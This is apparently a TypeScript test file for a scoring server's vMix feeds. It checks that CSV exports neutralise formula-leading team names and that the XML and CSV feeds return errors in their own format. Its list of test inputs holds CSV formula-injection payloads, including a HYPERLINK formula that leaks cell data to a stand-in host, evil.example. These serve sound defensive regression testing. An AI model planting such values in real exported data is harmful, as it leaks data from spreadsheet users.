/**
 * Issue 12: a team name `=1+2` or `=HYPERLINK(...)` went unescaped into
 * `/api/feeds/vmix.csv` (formula injection when the feed is opened in a spreadsheet), and
 * the XML and CSV feeds answered errors as JSON, which the tools reading them cannot
 * parse. Against the real server and PostgreSQL, an honest court pushing throughout.
 */
import { parse as parseCsv } from 'csv-parse/sync';
import { XMLParser, XMLValidator } from 'fast-xml-parser';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startTestServer, type TestServer } from '../support/server.js';
import { HonestCourt } from './honest-court.js';

const HOSTILE_NAMES = [
  '=1+2',
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
  '+SUM(1,2)',
  '-2+3',
  '@SUM(A1)',
  '\t=1',
  '\r=1',
];

let server: TestServer;
let honest: HonestCourt;
let viewer: string;

beforeAll(async () => {
  server = await startTestServer();
  viewer = await server.userToken('viewer');
  for (const [i, name] of HOSTILE_NAMES.entries())
    await server.createMatch({ court: `X${i}`, home: { name }, away: { name: `away ${name}` } });
  honest = await HonestCourt.onCourt(server);
  honest.start();
});
afterAll(async () => {
  honest?.close();
  await server?.stop();
});

const get = (path: string) => fetch(server.url + path);

describe('vmix.csv', () => {
  it('neutralises every cell that would start a formula (a leading quote, the cell quoted)', async () => {
    const res = await get(`/api/feeds/vmix.csv?token=${viewer}`);
    expect(res.status).toBe(200);
    const text = await res.text();
    const rows = parseCsv(text, { columns: true }) as Record<string, string>[];
    const homes = rows.filter((r) => r.court!.startsWith('X')).map((r) => r.home);
    // As stored (the match schema trims edge whitespace), each behind the neutralising quote.
    const stored = (
      (await server.http('GET', '/api/matches', undefined, viewer)).body as { court: string; home: { name: string } }[]
    )
      .filter((m) => m.court.startsWith('X'))
      .map((m) => m.home.name);
    expect(stored).toHaveLength(HOSTILE_NAMES.length);
    expect(homes.sort()).toEqual(stored.map((n) => `'${n}`).sort());
    // No line of the raw text has a cell that begins with a formula character.
    for (const line of text.split('\r\n'))
      for (const cell of line.split(/,(?=(?:[^"]*"[^"]*")*[^"]*$)/)) expect(cell).not.toMatch(/^"?[=+@\t\r]/);
  });
});

describe('errors of the XML and CSV feeds, in their own format', () => {
  it('XML: a well-formed error document with the code (bad court, no token, admin token in the URL)', async () => {
    const parser = new XMLParser();
    const cases: [string, number, string][] = [
      [`/api/feeds/vmix.xml?court=${'x'.repeat(500)}&token=${viewer}`, 400, 'VALIDATION'],
      ['/api/feeds/vmix.xml', 401, 'UNAUTHORIZED'],
      [`/api/feeds/vmix.xml?token=${server.adminToken}`, 403, 'FORBIDDEN'],
    ];
    for (const [path, status, code] of cases) {
      const res = await get(path);
      expect(res.status).toBe(status);
      expect(res.headers.get('content-type')).toMatch(/^application\/xml/);
      const body = await res.text();
      expect(XMLValidator.validate(body)).toBe(true);
      expect(parser.parse(body).error).toMatchObject({ code });
    }
  });

  it('CSV: a code,message body (bad court, no token, admin token in the URL)', async () => {
    const cases: [string, number, string][] = [
      [`/api/feeds/vmix.csv?court=${'x'.repeat(500)}&token=${viewer}`, 400, 'VALIDATION'],
      ['/api/feeds/vmix.csv', 401, 'UNAUTHORIZED'],
      [`/api/feeds/vmix.csv?token=${server.adminToken}`, 403, 'FORBIDDEN'],
    ];
    for (const [path, status, code] of cases) {
      const res = await get(path);
      expect(res.status).toBe(status);
      expect(res.headers.get('content-type')).toMatch(/^text\/csv/);
      const [row] = parseCsv(await res.text(), { columns: true }) as Record<string, string>[];
      expect(row).toMatchObject({ code });
      expect(row!.message!.length).toBeGreaterThan(0);
    }
  });

  it('JSON routes keep JSON errors', async () => {
    const res = await get('/api/feeds/vmix.json');
    expect(res.status).toBe(401);
    expect(await res.json()).toMatchObject({ error: { code: 'UNAUTHORIZED' } });
  });

  it('the honest court kept its acks under 1 s, its events stored once', async () => {
    await honest.stop(10);
    await honest.expectServed();
  });
});
